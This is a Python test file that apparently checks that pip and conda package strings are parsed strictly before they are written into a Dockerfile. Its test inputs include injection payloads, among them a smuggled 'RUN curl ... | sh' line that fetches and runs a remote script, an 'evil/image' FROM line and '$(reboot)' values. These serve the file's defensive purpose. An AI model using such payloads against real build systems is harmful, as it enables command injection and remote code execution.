"""Package strings are parsed strictly before they reach a build file: PEP 508 for pip, a strict grammar for conda
(issue 23); property tests check that nothing accepted can add a Dockerfile instruction."""

from __future__ import annotations

import re
import string

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from acpt_estimator import PyTorch
from acpt_estimator.environments import EnvironmentRequest, build_on_acpt, default_acpt, resolve
from acpt_estimator.exceptions import UserErrorException
from acpt_estimator.package_specs import conda_spec, pip_requirement, pip_requirements_text

from .golden_cases import SRC

INJECTED = "numpy'\nRUN curl -s http://x/x.sh | sh #"


def _est(**kwargs):
    return PyTorch(SRC, compute_target="local", entry_script="train.py", use_gpu=True, **kwargs)


@pytest.mark.parametrize("parameter, value", [
    ("pip_packages", [INJECTED]), ("pip_packages", ["numpy\nFROM evil/image"]), ("conda_packages", [INJECTED]),
    ("conda_packages", ["numpy\nFROM evil/image"]), ("pip_packages", ["-e git+https://x/y.git"]),
    ("pip_packages", ["numpy; $(reboot)"]), ("conda_packages", ["numpy'; reboot"]),
])
def test_a_package_that_is_not_a_parsed_requirement_is_refused_naming_the_parameter(parameter, value):
    with pytest.raises(UserErrorException, match=rf"{parameter} holds (the pip option )?{re.escape(repr(value[0]))}"):
        _est(**{parameter: value})


def test_requirements_file_lines_are_parsed_too(tmp_path):
    (tmp_path / "train.py").write_text("")
    (tmp_path / "requirements.txt").write_text("numpy==1.26  # pinned\n--extra-index-url https://my.feed/simple\n"
                                               "torchmetrics \\\n  --hash=sha256:abcdef0123\n-e .\n")
    with pytest.raises(UserErrorException, match=r"pip_requirements_file holds the pip option '-e \.'"):
        PyTorch(str(tmp_path), compute_target="local", entry_script="train.py", use_gpu=True,
                pip_requirements_file="requirements.txt")
    assert pip_requirements_text("numpy==1.26  # pinned\n--extra-index-url https://my.feed/simple\n"
                                 "torchmetrics \\\n  --hash=sha256:abcdef0123\n") == (
        "numpy==1.26", "--extra-index-url https://my.feed/simple", "torchmetrics --hash=sha256:abcdef0123")


def test_packages_reach_the_dockerfile_only_parsed_and_quoted():
    env = build_on_acpt(default_acpt(), pip_packages=("numpy >= 1.26", "--extra-index-url https://my.feed/simple"),
                        conda_packages=("conda-forge::scipy>=1.11,<2",))
    lines = env.dockerfile.splitlines()
    assert "RUN pip install --no-cache-dir 'numpy>=1.26' --extra-index-url https://my.feed/simple" in lines
    assert "RUN conda install -y -n ptca 'conda-forge::scipy>=1.11,<2' && conda clean -ay" in lines


def test_a_conda_file_with_an_injected_pip_line_is_refused(tmp_path):
    conda = "dependencies:\n- python=3.10\n- pip:\n  - \"numpy\\nRUN reboot\"\n"
    with pytest.raises(UserErrorException, match=r"conda_dependencies_file \(pip section\) holds 'numpy\\nRUN"):
        resolve(EnvironmentRequest(use_gpu=True, conda_file_text=conda))


_NAMES = st.from_regex(r"[A-Za-z][A-Za-z0-9._-]{0,12}[A-Za-z0-9]", fullmatch=True)
_VERSIONS = st.from_regex(r"[0-9]{1,3}(\.[0-9]{1,3}){1,2}", fullmatch=True)  # ~= needs two parts


@settings(max_examples=150, deadline=None)
@given(name=_NAMES, op=st.sampled_from(["", "==", ">=", "<", "~=", "!="]), version=_VERSIONS)
def test_valid_requirements_are_accepted_and_written_as_one_quoted_word(name, op, version):
    text = name + (op + version if op else "")
    env = build_on_acpt(default_acpt(), pip_packages=(text,), conda_packages=(text.replace("~=", "="),))
    assert len(env.dockerfile.splitlines()) == 3  # FROM, conda install, pip install: nothing more


@settings(max_examples=300, deadline=None)
@example(text="0@\x850")  # found by this test: NEL inside a PEP 508 URL
@given(text=st.text(alphabet=string.printable + "\u2028\x85\x00", min_size=1, max_size=40))
def test_no_accepted_package_string_can_add_a_build_instruction(text):
    for check in (pip_requirement, conda_spec):
        try:
            parsed = check(text)
        except UserErrorException:
            continue
        assert not any(ch in parsed for ch in "\r\n\x00\x0b\x0c\x1c\x1d\x1e\x85\u2028")
        env = build_on_acpt(default_acpt(), **({"pip_packages": (text,)} if check is pip_requirement
                                                else {"conda_packages": (text,)}))
        assert len(env.dockerfile.splitlines()) <= 2 and env.dockerfile.startswith("FROM mcr.microsoft.com/")


def test_v1_era_package_forms_stay_accepted():
    for text in ("git+https://github.com/x/y.git@v1#egg=y", "torch==1.6.0+cu101", "horovod[pytorch]==0.19.5",
                 "-f https://download.pytorch.org/whl/torch_stable.html", "https://host/x-1.0-py3-none-any.whl"):
        assert pip_requirement(text) == text
    for text in ("pytorch::pytorch=1.6", "numpy >=1.20", "pytorch=1.6.0=py3.7_cuda10.1.243_cudnn7.6.3_0",
                 "conda-forge/label/cf202003::pkg", "python>=3.8,<3.11", "openssl=1.1.1*"):
        assert conda_spec(text) == text
